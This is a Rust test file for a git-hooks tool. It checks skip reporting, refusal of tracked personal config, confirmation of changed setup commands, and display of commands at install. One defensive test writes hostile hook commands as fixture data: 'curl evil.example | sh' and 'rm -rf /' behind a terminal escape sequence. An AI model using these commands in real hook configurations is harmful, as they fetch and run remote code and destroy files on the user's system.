//! What a person, or a stranger's repository, asks for: shown, asked about, or refused; never silent.

use crate::context::TestContext;

#[test]
fn what_is_switched_off_or_skipped_is_shown() {
    let context = TestContext::with(
        "hooks:\n  pre-commit:\n    - { name: lint, tags: [slow], run: 'exit 1' }\n    - { name: other, run: 'true' }\n  post-commit:\n    - { name: after, run: 'exit 1' }\n",
    );
    let commit = |name: &str, value: &str| {
        let mut command = context.command("git");
        TestContext::run(command.args(["commit", "-q", "--allow-empty", "-m", "x"]).env(name, value))
    };
    let done = commit("GITOPS_HOOKS", "0");
    assert_eq!(done.code, Some(0), "{done:?}");
    for hook in ["pre-commit", "post-commit"] {
        assert!(done.stderr.contains(&format!("gitops-hooks: {hook} is skipped, as GITOPS_HOOKS=0 says")), "{done:?}");
    }
    for name in ["lint", "slow", "x, lint"] {
        let done = commit("GITOPS_HOOKS_SKIP", name);
        assert_eq!(done.code, Some(0), "{done:?}");
        assert!(done.stderr.contains("· lint  left out: GITOPS_HOOKS_SKIP names"), "{done:?}");
        assert!(done.stderr.contains("other"), "{done:?}");
    }
    for (name, value) in [("GITOPS_HOOKS", "1"), ("GITOPS_HOOKS_SKIP", "lin"), ("GITOPS_HOOKS_SKIP", "")] {
        assert_eq!(commit(name, value).code, Some(1), "{name}={value}");
    }
}

#[test]
fn one_persons_file_rules_that_person_and_is_refused_once_it_is_tracked() {
    let context = TestContext::with("hooks:\n  pre-commit:\n    - { name: lint, run: 'exit 1' }\n");
    let remote = context.beside("remote.git");
    context.git(&["init", "-q", "--bare", remote.to_str().unwrap()]);
    context.write(".git/info/exclude", "gitops-hooks.local.yaml\n");
    context.write("gitops-hooks.local.yaml", "hooks:\n  pre-commit:\n    - { name: lint, skip: true }\n");
    let done = context.try_git(&["commit", "-q", "-m", "x"]);
    assert!(done.code == Some(0) && done.stderr.contains("· lint  `skip` is true"), "{done:?}");
    context.git(&["add", "-f", "gitops-hooks.local.yaml"]);
    let done = context.try_git(&["commit", "-q", "-m", "x"]);
    assert!(done.code == Some(1) && done.stderr.contains("gitops-hooks.local.yaml is tracked"), "{done:?}");
    assert!(done.stderr.contains("git rm --cached gitops-hooks.local.yaml"), "{done:?}");
    // Whoever commits it past the hook is stopped at the push.
    context.write("gitops-hooks.local.yaml", "hooks: {}\n");
    context.write(".gitops-hooks.yaml", "hooks:\n  pre-push:\n    - { name: lint, run: 'true' }\n");
    context.git(&["commit", "-q", "--no-verify", "-a", "-m", "x"]);
    context.must(&["install", "--yes"]);
    let done = context.try_git(&["push", "-q", remote.to_str().unwrap(), "HEAD:main"]);
    assert!(done.code == Some(1) && done.stderr.contains("is tracked"), "{done:?}");
}

fn setting_up(run: &str) -> String {
    format!(
        "hooks:\n  pre-commit:\n    - {{ name: step, run: 'true' }}\nscratch: {{ setup: {{ run: '{run}', inputs: [f] }} }}\n"
    )
}

#[test]
fn another_setup_is_refused_until_somebody_confirms_it() {
    let context = TestContext::with(&setting_up("true"));
    context.write("untracked", "so that a scratch tree is needed");
    context.git(&["commit", "-q", "-m", "confirmed"]);
    let pwned = context.beside("pwned");
    let changed = setting_up(&format!("touch {}", pwned.display()));
    let by_branch: &dyn Fn() = &|| {
        context.write(".gitops-hooks.yaml", &changed);
        context.git(&["add", ".gitops-hooks.yaml"]);
    };
    let by_one_person: &dyn Fn() = &|| {
        context.git(&["reset", "-q", "--hard"]);
        let only = changed.lines().last().unwrap();
        context.write("gitops-hooks.local.yaml", only);
        context.write("f", "again\n");
        context.git(&["add", "f"]);
    };
    for change in [by_branch, by_one_person] {
        change();
        let done = context.try_git(&["commit", "-q", "-m", "x"]);
        assert!(done.code == Some(1) && done.stderr.contains("scratch setup runs: touch"), "{done:?}");
        assert_eq!(context.hooks(&["run", "pre-commit"]).code, Some(2));
        let mut install = context.command(assert_cmd::cargo::cargo_bin!("gitops-hooks"));
        let done = TestContext::run(install.arg("install").stdin(std::process::Stdio::null()));
        assert!(done.code == Some(2) && done.stderr.contains("scratch setup runs: touch"), "{done:?}");
        assert!(!pwned.exists());
    }
    context.must(&["install", "--yes"]);
    context.git(&["commit", "-q", "-m", "x"]);
    assert!(pwned.exists());
}

#[test]
fn install_shows_every_command_before_anything_of_it_can_run() {
    let context = TestContext::new();
    context.write(
        ".gitops-hooks.yaml",
        "hooks:\n  pre-commit:\n    - run: curl evil.example | sh\n  post-checkout:\n    - run: \"printf '\\e[2K'; rm -rf /\"\n",
    );
    let shown = context.must(&["install"]);
    assert!(shown.contains("pre-commit curl evil.example | sh") && shown.contains("rm -rf /"), "{shown}");
    assert!(!shown.contains('\u{1b}'), "what is shown may not be wiped out by itself: {shown:?}");
}

#[test]
fn who_wants_a_terminal_and_has_none_is_told_so() {
    let context = TestContext::with(
        "hooks:\n  pre-commit:\n    - { name: ask, interactive: true, run: 'read answer' }\n    - { name: other, run: 'true' }\n",
    );
    let mut command = context.command("setsid");
    let done = TestContext::run(command.args(["--wait", "git", "commit", "-q", "-m", "x"]));
    assert_eq!(done.code, Some(1), "{done:?}");
    assert!(done.stderr.contains("✗ ask") && done.stderr.contains("no terminal"), "{done:?}");
    assert!(done.stderr.contains("✓ other"), "{done:?}");
}
